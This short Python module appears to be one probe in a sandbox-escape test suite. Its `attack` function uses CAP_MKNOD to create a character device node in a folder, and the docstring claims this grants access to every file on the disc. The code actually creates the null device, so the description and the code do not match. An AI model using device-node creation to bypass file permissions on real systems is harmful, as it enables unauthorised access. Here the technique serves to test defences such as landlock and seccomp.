"""Make the node of a device in a folder of one's own.

A node for the disc gives every file on it, whatever the rights of its name.

Stopped by: landlock, seccomp, ids
"""

import os
import stat

from calls import CAP_MKNOD, needs


def attack(facts):
    needs(facts, CAP_MKNOD)
    os.mknod(facts["folder"] + "/node", 0o600 | stat.S_IFCHR, os.makedev(1, 3))
